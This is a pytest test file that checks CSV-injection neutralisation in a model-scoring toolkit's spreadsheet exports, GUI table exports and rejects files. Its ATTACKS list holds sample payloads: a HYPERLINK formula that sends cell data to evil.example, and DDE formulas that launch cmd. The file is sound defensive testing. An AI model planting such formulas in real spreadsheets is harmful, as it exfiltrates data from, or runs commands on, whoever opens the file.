"""CSV files meant for people are safe to open in a spreadsheet (OWASP "CSV injection"):
a text cell starting with =, +, -, @, a tab or a carriage return gets a single quote in
front; numbers, negative ones included, stay numbers. Checked on the rule itself, on the
GUI's table export (the Arrow grid and plain tables), on score.py's rejects file and on
a package's example rows; the predictions file (for machines) is left as it came."""

from __future__ import annotations

import csv

import pandas as pd
import pytest

from export_helpers import FEATURES, export_late, score_py, summary_of

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
NUMBERS = ["-3.5", "+2", "-1e-3", "-1,5", "-0", ".5", "12"]


def _rows(path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_the_rule_quotes_formulas_and_leaves_numbers_and_other_text():
    from mlops_model_support.spreadsheet import neutralise, neutralise_cells

    for attack in ATTACKS:
        assert neutralise(attack) == "'" + attack
    for number in NUMBERS:
        assert neutralise(number) == number
    for text in ("plain", "'=already quoted", " =1+1", "a=b", "-inf", "-3.5 kg", "-", "--"):
        assert neutralise(text) == (("'" + text) if text[0] in "=+-@\t\r" else text)
    assert neutralise_cells([-3.5, None, "=1", 7, "-7"]) == [-3.5, None, "'=1", 7, "-7"]


def test_the_arrow_rule_equals_the_cell_rule_column_by_column():
    import pyarrow as pa

    from mlops_model_support.spreadsheet import neutralise, neutralise_table

    texts = [*ATTACKS, *NUMBERS, "plain", None, "-inf"]
    table = pa.table({"=name": pa.array(texts), "n": pa.array([-3.5] * len(texts)),
                      "d": pa.array(texts).dictionary_encode()})
    out = neutralise_table(table)
    assert out.column_names == ["'=name", "n", "d"]
    assert out.column("'=name").to_pylist() == [None if t is None else neutralise(t)
                                                                      for t in texts]
    assert out.column("d").to_pylist() == out.column("'=name").to_pylist()
    assert out.column("n").to_pylist() == [-3.5] * len(texts)  # a number column is never touched


def test_table_exports_from_the_gui_are_neutralised(qtbot, tmp_path):
    import pyarrow as pa
    from PySide6.QtWidgets import QTableView, QTableWidget

    from mlops_desktop.gui.table_model import ArrowTableModel
    from mlops_desktop.gui.table_export import export_csv
    from mlops_desktop.gui.tables import fill_table

    table = pa.table({"=cmd()": ATTACKS + NUMBERS[:1], "delta": [-1.5, -2.0, 3.0, -4.25, 5.0, 6.0, -7.0],
                      "as text": NUMBERS})
    view = QTableView()
    qtbot.addWidget(view)
    view.setModel(ArrowTableModel(table))
    rows = _rows(export_csv(view, tmp_path / "grid.csv"))
    assert rows[0] == ["'=cmd()", "delta", "as text"]
    assert [r[0] for r in rows[1:]] == ["'" + a for a in ATTACKS] + ["-3.5"]
    assert [float(r[1]) for r in rows[1:]] == [-1.5, -2.0, 3.0, -4.25, 5.0, 6.0, -7.0]
    assert [r[2] for r in rows[1:]] == NUMBERS  # numbers written as text stay numbers

    plain = QTableWidget(2, 3)
    qtbot.addWidget(plain)
    plain.setHorizontalHeaderLabels(["@name", "value", "note"])
    fill_table(plain, [[ATTACKS[0], -3.5, "-2 is fine"], ["ok", -0.25, "=1+1"]])
    rows = _rows(export_csv(plain, tmp_path / "plain.csv"))
    assert rows == [["'@name", "value", "note"], ["'" + ATTACKS[0], "-3.5", "'-2 is fine"],
                    ["ok", "-0.25", "'=1+1"]]


@pytest.fixture(scope="module")
def hostile_package(tmp_path_factory):
    """A model trained on flights whose carriers look like formulas."""
    def formula_like(df: pd.DataFrame) -> pd.DataFrame:
        return df.assign(carrier=df["carrier"].map({"UA": "=UA", "AA": "@AA", "B6": "+B6"}).fillna(df["carrier"]))

    pkg, df, _ = export_late(tmp_path_factory.mktemp("csv-injection"), formula_like)
    return pkg, df


def test_the_rejects_file_is_neutralised_and_the_predictions_are_not(hostile_package, tmp_path):
    pkg, df = hostile_package
    rows = df.head(6).copy().astype({"row_id": object, "dep_delay": object, "distance": object})
    ids = [*ATTACKS[:5], "@last"]  # (a carriage return inside a value does not survive a CSV round trip)
    rows["row_id"] = ids
    rows["dep_delay"] = ["=1+2", "-3.5", "-12", "@x", "7", "-1e400"]  # rows 1, 4 and 6 rejected
    rows["distance"] = ["-3.5", "100", "200", "-1,5", "300", "400"]   # "-1,5" (a point file): rejected
    source = tmp_path / "batch.csv"
    rows.to_csv(source, index=False)
    done = score_py(pkg, source, "-o", tmp_path / "out.csv", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    rejects = pd.read_csv(tmp_path / "out.rejects.csv", dtype=str, keep_default_na=False)
    assert rejects["input_row"].tolist() == ["1", "4", "6"]
    assert rejects["row_id"].tolist() == ["'" + ids[i] for i in (0, 3, 5)]
    assert rejects["dep_delay"].tolist() == ["'=1+2", "'@x", "-1e400"]  # -1e400 is a number, too large
    assert rejects["distance"].tolist() == ["-3.5", "-1,5", "400"]      # numbers stay as they were
    assert rejects["carrier"].str.startswith("'").tolist() == rejects["carrier"].str.match(r"'?[=@+]").tolist()
    assert all(not r.startswith(("=", "+", "-", "@")) for r in rejects["reason"])
    # the predictions file keeps the ids exactly, to join back (documented in the README)
    out = pd.read_csv(tmp_path / "out.csv", dtype=str, keep_default_na=False)
    assert out["row_id"].tolist() == [ids[i] for i in (1, 2, 4)]
    readme = (pkg / "README.md").read_text()
    assert "OWASP" in readme and "never changed this way" in readme


def test_the_example_rows_are_neutralised_and_the_self_test_passes(hostile_package, tmp_path):
    pkg, df = hostile_package
    examples = pd.read_csv(pkg / "examples" / "input.csv", dtype=str, keep_default_na=False)
    carriers = set(examples["carrier"]) - {""}
    assert carriers & {"'=UA", "'@AA", "'+B6"}
    assert not any(c.startswith(("=", "+", "-", "@")) for c in carriers)
    delays = [float(v) for v in examples["dep_delay"] if v]
    assert min(delays) < 0  # negative numbers are written as numbers, not quoted
    assert sorted(examples.columns) == sorted(["row_id", *FEATURES])  # the header names the model's columns
    self_test = score_py(pkg, "--self-test", cwd=tmp_path)
    assert self_test.returncode == 0, self_test.stderr
    assert summary_of(self_test)["self_test"] == "passed"
